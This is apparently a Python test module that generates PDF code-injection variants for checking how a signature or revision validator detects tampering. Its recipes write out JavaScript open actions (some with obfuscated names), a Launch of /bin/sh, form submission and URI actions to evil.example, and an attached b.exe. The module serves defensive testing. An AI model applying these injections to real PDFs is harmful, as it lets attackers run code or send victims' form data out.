"""Code injection: scripts and actions that a viewer performs for a document that it trusts."""

from __future__ import annotations

from collections.abc import Iterator

from support.attack_documents import (
    AGREE,
    AMOUNT,
    CATALOG,
    FORM,
    LINK,
    NAME,
    NAMES,
    NOTE,
    OUTLINES,
    PAGE,
    PAGES,
    RADIO,
)
from support.attacks import Change, Recipes, Variant, over_bases
from support.attacks_annotations import annotation
from support.pdf_writing import stream
from support.revision_writing import Revision

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH = b"<< /S /Launch /F (/bin/sh) >>"
_SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"
_ADDITIONAL = b"<< /O %b >>" % SCRIPT
_CODES = (
    "javascript-added action-changed action-added open-action-changed catalog-changed form-changed "
    "field-changed page-content-changed pages-changed annotation-added annotation-changed "
    "embedded-file-added signed-annotation-changed destinations-changed outlines-changed"
)


def _open(action: bytes) -> Change:
    return lambda r: r.put(CATALOG, {"OpenAction": action})


def _filled(entries: dict[str, bytes | None]) -> Change:
    """Fill a field, and bring an action with it."""
    return lambda r: r.put(NAME, {"V": b"(Ann)", **entries})


def _script_stream(revision: Revision) -> None:
    code = revision.add(stream(b"app.alert(1)"))
    revision.put(CATALOG, {"OpenAction": b"<< /S /JavaScript /JS %d 0 R >>" % code})


def _hidden_behind(revision: Revision) -> None:
    """Chain a script behind a harmless action, in objects of their own."""
    script = revision.add(SCRIPT)
    first = revision.add(b"<< /S /GoTo /D [3 0 R /Fit] /Next [%d 0 R] >>" % script)
    revision.put(CATALOG, {"OpenAction": b"%d 0 R" % first})


def _new_signature_field(revision: Revision) -> None:
    field = revision.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Click) /Rect [0 0 0 0] /P 3 0 R /A %b >>"
        % SCRIPT
    )
    revision.extend(FORM, "Fields", b"%d 0 R" % field)
    revision.extend(PAGE, "Annots", b"%d 0 R" % field)


_CORNER = b"[500 60 520 80]"
RECIPES: Recipes = {
    "open-script": (_CODES, _open(SCRIPT)),
    "open-script-in-stream": (_CODES, _script_stream),
    "open-script-chained": (_CODES, _hidden_behind),
    "open-script-escaped": (
        _CODES,
        _open(b"<< /#53 /JavaScrip#74 /J#53 (app.alert\\(1\\)) >>"),
    ),
    "open-launch": (_CODES, _open(_LAUNCH)),
    "open-uri": (_CODES, _open(b"<< /S /URI /URI (https://evil.example) >>")),
    "open-remote": (_CODES, _open(b"<< /S /GoToR /F (evil.pdf) /D [0 /Fit] >>")),
    "open-embedded": (_CODES, _open(b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>")),
    "open-submit": (_CODES, _open(_SUBMIT)),
    "open-import": (_CODES, _open(b"<< /S /ImportData /F (data.fdf) >>")),
    "open-hide": (_CODES, _open(b"<< /S /Hide /T (Amount) /H true >>")),
    "open-named": (_CODES, _open(b"<< /S /Named /N /Print >>")),
    "open-layer": (_CODES, _open(b"<< /S /SetOCGState /State [/OFF 35 0 R] >>")),
    "open-page": (_CODES, _open(b"[22 0 R /Fit]")),
    "catalog-events": (_CODES, lambda r: r.put(CATALOG, {"AA": b"<< /WS %b >>" % SCRIPT})),
    "page-events": (_CODES, lambda r: r.put(PAGE, {"AA": _ADDITIONAL})),
    "pages-events": (_CODES, lambda r: r.put(PAGES, {"AA": _ADDITIONAL})),
    "page-presentation": (_CODES, lambda r: r.put(PAGE, {"PresSteps": b"<< /NA %b >>" % SCRIPT})),
    "named-scripts": (
        _CODES,
        lambda r: r.put(NAMES, {"JavaScript": b"<< /Names [(x) %b] >>" % SCRIPT}),
    ),
    "named-pages": (_CODES, lambda r: r.put(NAMES, {"Pages": b"<< /Names [] >>"})),
    "attachment": (
        _CODES,
        lambda r: r.put(NAMES, {"EmbeddedFiles": b"<< /Names [(a) 36 0 R (b.exe) 36 0 R] >>"}),
    ),
    "outline-action": (
        _CODES,
        lambda r: r.put(
            OUTLINES,
            {"First": b"%d 0 R" % r.add(b"<< /Title (x) /Parent 31 0 R /A %b >>" % SCRIPT)},
        ),
    ),
    "field-events": (_CODES, lambda r: r.put(AMOUNT, {"AA": b"<< /K %b >>" % SCRIPT})),
    "field-action": (_CODES, lambda r: r.put(AGREE, {"A": _LAUNCH})),
    "parent-events": (_CODES, lambda r: r.put(RADIO, {"AA": b"<< /C %b >>" % SCRIPT})),
    "filled-with-events": (_CODES, _filled({"AA": b"<< /F %b >>" % SCRIPT})),
    "filled-with-action": (_CODES, _filled({"A": SCRIPT})),
    "filled-with-submit": (_CODES, _filled({"A": _SUBMIT})),
    "form-order": (_CODES, lambda r: r.put(FORM, {"CO": b"[8 0 R]"})),
    "form-xfa": (
        _CODES + " xfa-changed",
        lambda r: r.put(FORM, {"XFA": b"%d 0 R" % r.add(stream(b"<xdp/>"))}),
    ),
    "signature-field-action": (_CODES + " signature-field-added", _new_signature_field),
    "note-action": (_CODES, lambda r: r.put(NOTE, {"A": SCRIPT})),
    "link-launch": (_CODES, lambda r: r.put(LINK, {"A": _LAUNCH})),
    "new-link-script": (
        _CODES,
        annotation(b"/Subtype /Link /A %b " % SCRIPT, rect=_CORNER),
    ),
    "new-link-launch": (_CODES, annotation(b"/Subtype /Link /A %b " % _LAUNCH, rect=_CORNER)),
    "new-link-events": (
        _CODES,
        annotation(b"/Subtype /Link /AA << /E %b >> " % SCRIPT, rect=_CORNER),
    ),
    "new-link-over-text": (
        _CODES,
        annotation(b"/Subtype /Link /A << /S /Launch /F (x) >> ", rect=b"[72 735 400 765]"),
    ),
    "new-note-script": (
        _CODES,
        annotation(b"/Subtype /Text /Contents (x) /A %b " % SCRIPT, rect=_CORNER),
    ),
    "new-screen-rendition": (
        _CODES,
        annotation(
            b"/Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> ", rect=_CORNER
        ),
    ),
    "base-address": (_CODES, lambda r: r.put(CATALOG, {"URI": b"<< /Base (http://evil/) >>"})),
    "requirements": (
        _CODES,
        lambda r: r.put(CATALOG, {"Requirements": b"[<< /S /EnableJavaScripts >>]"}),
    ),
    "collection": (_CODES, lambda r: r.put(CATALOG, {"Collection": b"<< /View /T >>"})),
    "destinations": (
        _CODES,
        lambda r: r.put(CATALOG, {"Dests": b"<< /x [22 0 R /Fit] >>"}),
    ),
}


def variants() -> Iterator[Variant]:
    """Every injected script or action."""
    yield from over_bases("injection", RECIPES, ("table", "objects", "p2", "p3"))
